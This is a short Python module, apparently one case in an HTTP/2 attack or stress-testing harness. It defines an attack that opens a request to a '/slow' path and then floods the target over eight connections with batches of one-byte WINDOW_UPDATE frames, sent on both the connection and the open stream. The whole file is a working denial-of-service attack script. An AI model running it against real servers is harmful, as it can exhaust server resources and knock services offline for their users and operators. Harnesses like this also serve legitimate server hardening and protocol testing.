"""WINDOW_UPDATE frames of one byte, on the connection and on an open stream."""

from itertools import repeat

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    batch = (frames.window_update(0, 1) + frames.window_update(1, 1)) * 600
    return await target.flood(8, frames.opening() + frames.request(1, frames.head(b"/slow")), lambda: repeat(batch))
